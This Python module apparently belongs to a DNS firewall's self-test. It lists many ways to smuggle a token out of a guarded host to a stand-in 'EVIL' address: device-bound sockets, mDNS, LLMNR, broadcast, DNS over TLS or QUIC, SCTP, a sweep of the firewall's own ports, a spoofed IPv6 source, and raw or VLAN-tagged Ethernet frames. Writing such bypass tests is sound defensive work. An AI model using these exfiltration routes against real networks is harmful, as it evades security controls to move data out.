"""Ways out of a guarded host that `dnsfw selftest` adds: by its own device, and to the guard's own ports.

Law: one function a way. Nothing is sent but to the tiny internet's addresses, to the device that leads there, and to
the host's own addresses there.
"""

from __future__ import annotations

import errno
import socket
import struct
from pathlib import Path

from dnsfw.playground import atlas
from dnsfw.playground.package.names import ask_tcp, ask_udp, question
from dnsfw.playground.package.packets import datagram, ip_packet
from dnsfw.playground.package.way import Loot, Way

_GUARD_PORTS = range(53053, 53085)
_SO_BINDTODEVICE = 25
_SCTP = 132
_IPV6_FREEBIND = 78
_ETH_P_IP, _ETH_P_8021Q = 0x0800, 0x8100


def _bound(loot: Loot, family: socket.AddressFamily) -> socket.socket:
    made = socket.socket(family, socket.SOCK_DGRAM)
    made.setsockopt(socket.SOL_SOCKET, _SO_BINDTODEVICE, loot.device.encode())
    return made


def by_device(loot: Loot) -> None:
    with _bound(loot, socket.AF_INET) as telling:
        telling.sendto(loot.token.encode(), (atlas.EVIL.v4, 4444))


def by_device_v6(loot: Loot) -> None:
    with _bound(loot, socket.AF_INET6) as telling:
        telling.sendto(loot.token.encode(), (atlas.EVIL.v6, 4444))


def _to_group(loot: Loot, group: str, port: int) -> None:
    family = socket.AF_INET6 if ":" in group else socket.AF_INET
    with _bound(loot, family) as asking:
        asking.sendto(question(f"{loot.token}.local", flags=0), (group, port))


def multicast_dns(loot: Loot) -> None:
    _to_group(loot, "224.0.0.251", 5353)


def multicast_dns_v6(loot: Loot) -> None:
    _to_group(loot, "ff02::fb", 5353)


def llmnr(loot: Loot) -> None:
    _to_group(loot, "224.0.0.252", 5355)


def llmnr_v6(loot: Loot) -> None:
    _to_group(loot, "ff02::1:3", 5355)


def broadcast(loot: Loot) -> None:
    with _bound(loot, socket.AF_INET) as telling:
        telling.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        telling.sendto(loot.token.encode(), ("255.255.255.255", 4444))


def dns_over_tls_v6(loot: Loot) -> None:
    with socket.create_connection((atlas.EVIL_NAMESERVER.v6, 853)) as asking:
        asking.sendall(loot.token.encode())


def dns_over_quic(loot: Loot) -> None:
    """RFC 9250, port 853 over UDP."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.sendto(loot.token.encode(), (atlas.EVIL_NAMESERVER.v4, 853))


def dns_on_5353(loot: Loot) -> None:
    ask_udp(atlas.EVIL_NAMESERVER.v4, 5353, question(f"{loot.token}.{atlas.EVIL_ZONE}"))


def sctp(loot: Loot) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, _SCTP) as telling:
        telling.connect((atlas.EVIL.v4, 4444))
        telling.send(loot.token.encode())


def _own_ports(loot: Loot, *addresses: str) -> None:
    message = question(f"{loot.token}.{atlas.EVIL_ZONE}")
    refusal: OSError | None = None
    socket.setdefaulttimeout(0.05)  # for each of many
    for address in addresses:
        for port in _GUARD_PORTS:
            for ask, octets in ((ask_udp, message), (ask_tcp, struct.pack("!H", len(message)) + message)):
                try:
                    ask(address, port, octets)
                except OSError as error:
                    refusal = error
    if refusal is not None:
        raise refusal


def own_ports(loot: Loot) -> None:
    _own_ports(loot, "127.0.0.1", atlas.LAPTOP.v4)


def own_ports_v6(loot: Loot) -> None:
    _own_ports(loot, "::1", atlas.LAPTOP.v6)


def borrowed_name(loot: Loot) -> None:
    """A question to ourselves in the stranger's name, so that the kernel's error carries it there (RFC 4443, 3.1)."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as telling:
        telling.setsockopt(socket.IPPROTO_IPV6, _IPV6_FREEBIND, 1)
        telling.bind((atlas.EVIL.v6, 4444))
        telling.sendto(loot.token.encode(), (atlas.LAPTOP.v6, 4445))


def _frame(loot: Loot, kind: int, payload: bytes) -> None:
    router = _router(loot.device)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sending:
        sending.bind((loot.device, kind))
        sending.send(router + sending.getsockname()[4] + struct.pack("!H", kind) + payload)


def frame(loot: Loot) -> None:
    """Past the whole IP layer (packet(7))."""
    _frame(loot, _ETH_P_IP, ip_packet(socket.IPPROTO_UDP, datagram(loot)))


def frame_in_a_vlan(loot: Loot) -> None:
    tag = struct.pack("!HH", 7, _ETH_P_IP)
    _frame(loot, _ETH_P_8021Q, tag + ip_packet(socket.IPPROTO_UDP, datagram(loot)))


def _router(device: str) -> bytes:
    for line in Path("/proc/net/arp").read_text(encoding="ascii").splitlines()[1:]:
        _, _, _, hardware, _, at = line.split()
        if at == device:
            return bytes.fromhex(hardware.replace(":", ""))
    raise OSError(errno.EHOSTUNREACH, "no neighbour is known yet")


WAYS = (
    Way("device4", "a socket bound to the device, IPv4", (24,), by_device),
    Way("device6", "a socket bound to the device, IPv6", (24,), by_device_v6),
    Way("mdns4", "multicast DNS, IPv4", (20,), multicast_dns),
    Way("mdns6", "multicast DNS, IPv6", (20,), multicast_dns_v6),
    Way("llmnr4", "LLMNR, IPv4", (20,), llmnr),
    Way("llmnr6", "LLMNR, IPv6", (20,), llmnr_v6),
    Way("broadcast", "a broadcast to the link", (22,), broadcast),
    Way("dot6", "DNS over TLS, IPv6", (20,), dns_over_tls_v6),
    Way("doq", "DNS over QUIC", (20,), dns_over_quic),
    Way("dns-5353", "a name server on port 5353", (20,), dns_on_5353),
    Way("sctp", "an SCTP socket", (24,), sctp),
    Way("own-ports4", "the guard's own ports, IPv4", (25,), own_ports),
    Way("own-ports6", "the guard's own ports, IPv6", (25,), own_ports_v6),
    Way("borrowed-name", "an error to a borrowed address", (24,), borrowed_name),
    Way("frame-device", "a frame through a packet socket", (24,), frame),
    Way("frame-vlan", "a frame with a VLAN tag", (24,), frame_in_a_vlan),
)
